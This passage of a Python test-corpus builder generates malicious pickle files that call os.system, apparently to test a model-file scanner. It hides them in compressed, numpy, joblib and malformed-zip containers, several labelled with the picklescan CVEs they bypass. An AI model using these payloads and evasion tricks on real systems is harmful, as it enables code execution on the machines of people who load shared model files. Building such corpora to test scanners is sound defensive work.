        good + b"\xfa" + b"X\x02\x00\x00\x00osX\x06\x00\x00\x00system\x93." ,
        what="BINUNICODE names after an unknown byte",
        live=False,
    )
    n = "pickle_then_zip"
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("archive/data.pkl", P2 + b"}.")
    _add(
        c,
        n,
        P4 + system(c, n) + STOP + inner.getvalue(),
        file="model.pt",
        what="a pickle with a zip appended (torch treats it as a legacy pickle)",
    )


# --- containers --------------------------------------------------------------------------


def _hostile(c: Corpus, n: str) -> bytes:
    return P4 + system(c, n) + STOP


@maker
def _compressed(c: Corpus) -> None:
    codecs: list[tuple[str, str, Callable[[bytes], bytes], str]] = [
        ("gzip_joblib_gz", "model.joblib.gz", gzip.compress, "gzip"),
        ("gzip_pkl_gz", "model.pkl.gz", gzip.compress, "gzip"),
        ("bz2_pkl", "model.pkl.bz2", bz2.compress, "bz2"),
        ("xz_pkl", "model.pkl.xz", lzma.compress, "xz"),
        ("lzma_joblib", "model.joblib", lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE), "-"),
        ("zlib_joblib", "model.joblib", zlib.compress, "-"),
        ("gzip_named_txt", "notes.txt", gzip.compress, "gzip"),
        ("gzip_named_json", "config.json", gzip.compress, "gzip"),
        ("bz2_named_csv", "table.csv", bz2.compress, "bz2"),
        ("gzip_named_bin", "weights.bin", gzip.compress, "gzip"),
    ]
    for name, file, compress, load in codecs:
        _add(
            c,
            name,
            compress(_hostile(c, name)),
            file=file,
            bypass="picklescan CVE-2025-1889 / GHSA-769v-p64c-89pr (extension-based detection)" if "named" in name else "-",
            what=f"{file}: compressed pickle",
            load=load,
            live=load != "-",
        )
    n = "plain_pickle_named_bin"
    _add(
        c,
        n,
        _hostile(c, n),
        file="pytorch_model.bin",
        bypass="picklescan CVE-2025-10155 / GHSA-gx77-x2pv-48v7 (a plain pickle where a torch file is expected)",
        what="plain protocol 4 pickle named like torch weights",
    )
    n = "protocol0_named_txt"
    _add(
        c,
        n,
        b"cos\nsystem\n(" + p0s(sh(c, n)) + b"tR.",
        file="readme.txt",
        what="protocol 0 pickle in a .txt file",
    )
    n = "tar_member"
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        data = _hostile(c, n)
        info = tarfile.TarInfo("pickle")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    _add(c, n, buf.getvalue(), file="model.tar", what="tar holding a pickle (legacy torch tar, pandas .tar)", live=False)


def _npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + payload


@maker
def _numpy(c: Corpus) -> None:
    n = "npy_object_array"
    _add(c, n, _npy_object(_hostile(c, n)), file="array.npy", what="numpy .npy object array", load="numpy")
    n = "npy_object_descr_o8"
    header = "{'descr': 'O8', 'fortran_order': False, 'shape': (1,), }"
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\n"
    _add(
        c,
        n,
        b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + _hostile(c, n),
        file="array.npy",
        what="numpy .npy whose object dtype is spelled 'O8'",
        load="numpy",
    )
    n = "npz_object_array"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.npy", _npy_object(_hostile(c, n)))
    _add(c, n, buf.getvalue(), file="arrays.npz", what="numpy .npz holding an object array", load="npz")


def _wrapper_state(dtype: bytes, shape: int, aligned: bool) -> bytes:
    """A joblib NumpyArrayWrapper state dict, as joblib 1.x writes it."""
    items = (
        s("subclass")
        + sg("numpy", "ndarray")
        + s("shape")
        + b"K" + bytes([shape]) + b"\x85"
        + s("order")
        + s("C")
        + s("dtype")
        + dtype
        + s("allow_mmap")
        + (b"\x88" if aligned else b"\x89")
    )
    if aligned:
        items += s("numpy_array_alignment_bytes") + b"K\x10"
    return b"}(" + items + b"u"


def _dtype(code: str, elsize: int = -1) -> bytes:
    obj = code.startswith("O")
    state = b"(K\x03" + s("|" if obj else "<") + b"NNN" + struct.pack("<Bi", 0x4A, elsize) + b"J\xff\xff\xff\xffK" + bytes([0x3F if obj else 0]) + b"t"
    return sg("numpy", "dtype") + s(code) + b"\x89\x88\x87R" + state + b"b"


@maker
def _joblib(c: Corpus) -> None:
    wrapper = sg("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"

    def dict_with_array(dtype: bytes, count: int) -> bytes:
        # {"arr": <wrapper>, ...: the array's bytes (or nested pickle) follow its BUILD
        return P4 + b"}(" + s("arr") + wrapper + _wrapper_state(dtype, count, aligned=False) + b"b"

    tail = s("after") + b"K\x01u" + STOP
    n = "joblib_nested_object_array"
    nested = P4 + b"]" + system(c, n) + b"a" + STOP
    _add(
        c,
        n,
        dict_with_array(_dtype("O8"), 1) + nested + tail,
        file="model.joblib",
        what="joblib file whose numpy object array (a nested pickle) calls os.system",
        load="joblib",
    )
    n = "joblib_wrapper_plain_loader"
    hidden = system(c, n) + b"0"  # what a plain unpickler runs where joblib reads array bytes
    count = -(-len(hidden) // 8)
    hidden += MEMOIZE * (count * 8 - len(hidden))  # a no-op while the stack is not empty
    _add(
        c,
        n,
        dict_with_array(_dtype("f8"), count) + hidden + tail,
        file="model.pkl",
        what="joblib array bytes that a plain pickle.load runs as opcodes",
        load="pickle",
    )
    n = "joblib_elsize_lie"
    hidden = system(c, n) + b"0"
    _add(
        c,
        n,
        dict_with_array(_dtype("f8", elsize=len(hidden) + 8), 1) + b"\x00" * 8 + hidden + tail,
        file="model.joblib",
        what="float64 dtype whose pickled state claims a larger item size",
        load="joblib",
    )


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members:
            z.writestr(name, data)
    return buf.getvalue()


@maker
def _zips(c: Corpus) -> None:
    benign = P2 + b"}."
    n = "torch_zip_second_pkl"
    _add(
        c,
        n,
        _zip([("archive/data.pkl", benign), ("archive/extra.pkl", _hostile(c, n))]),
        file="model.pt",
        what="torch zip: data.pkl benign, another .pkl member dangerous",
        live=False,
    )
    n = "zip_member_txt_name"
    _add(
        c,
        n,
        _zip([("archive/data.pkl", benign), ("archive/notes.txt", _hostile(c, n))]),
        file="model.pt",
        bypass="picklescan CVE-2025-1889 (a pickle with another extension inside a zip)",
        what="zip member named .txt holding a pickle",
        live=False,
    )
    n = "zip_duplicate_names"
    with zipfile.ZipFile(buf := io.BytesIO(), "w") as z:
        z.writestr("archive/data.pkl", benign)
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            z.writestr("archive/data.pkl", _hostile(c, n))
    _add(c, n, buf.getvalue(), file="model.pt", what="two members named data.pkl, the second dangerous", live=False)
    n = "zip_flag_bits"
    data = bytearray(_zip([("archive/data.pkl", _hostile(c, n))]))
    # set the "encrypted" bit in the local and central headers; readers that ignore it
    # (PyTorch's) still load the member
    data[6] |= 0x01
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 8] |= 0x01
    _add(
        c,
        n,
        bytes(data),
        file="model.pt",
        bypass="picklescan CVE-2025-1945 / GHSA-w8jq-xcqf-f792 (zip flag bits)",
        what="zip member flagged encrypted, stored in clear",
        live=False,
    )
    n = "zip_bad_crc"
    data = bytearray(_zip([("archive/data.pkl", _hostile(c, n))]))
    data[14:18] = b"\x00\x00\x00\x00"
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 16 : cd + 20] = b"\x00\x00\x00\x00"
    _add(
        c,
        n,
        bytes(data),
        file="model.pt",
        bypass="picklescan CVE-2025-10156 / GHSA-gx77-x2pv-48v7 (zip CRC errors)",
        what="zip member with a wrong CRC-32",
        live=False,
    )
    n = "zip_name_mismatch"
    raw = _zip([("archive/data.pkl", _hostile(c, n))])
    raw = raw.replace(b"archive/data.pkl", b"archive/datap.kl", 1)  # the local header only
    _add(
        c,
        n,
        raw,
        file="model.pt",
        bypass="picklescan CVE-2025-1944 / GHSA-7q5r-7gvp-wc82 (local and central file names differ)",
        what="zip whose local header names another file than its directory",
        live=False,
    )
    n = "zip_in_zip"
    inner = _zip([("inner/data.pkl", _hostile(c, n))])
    _add(
        c,
        n,
        _zip([("outer/model.pt", inner)]),
        file="model.pt2",
        what="a torch zip nested inside a zip",
        live=False,
    )
    n = "zip_deflated_member"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", _hostile(c, n))
    _add(c, n, buf.getvalue(), file="model.pth", what="deflated zip member", live=False)


# --------------------------------------------------------------------------------------
# the control's loader (runs in a child process only)

LOADER = r"""
import bz2, gzip, lzma, pickle, sys, zipfile
root = sys.argv[1]
for line in sys.stdin.read().splitlines():
    mode, path = line.split(" ", 1)
    path = root + "/" + path
    try:
        if mode == "pickle":
            with open(path, "rb") as f:
                pickle.load(f)
        elif mode == "multi":
            with open(path, "rb") as f:
                while True:
                    pickle.load(f)
        elif mode in ("gzip", "bz2", "xz"):
            opener = {"gzip": gzip.open, "bz2": bz2.open, "xz": lzma.open}[mode]
            with opener(path, "rb") as f:
                pickle.load(f)
        elif mode == "joblib":
            import joblib
            joblib.load(path)
        elif mode == "numpy":
            import numpy
            numpy.load(path, allow_pickle=True)
        elif mode == "npz":
            import numpy
            with numpy.load(path, allow_pickle=True) as z:
                [z[k] for k in z.files]
    except BaseException as exc:
        print(path, type(exc).__name__, exc, file=sys.stderr)
"""


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile").resolve()
    corpus = build(target / "cases", target / "markers")
    for case in corpus.cases:
        print(f"{case.name:36} {case.file:50} live={case.live} {case.bypass}")
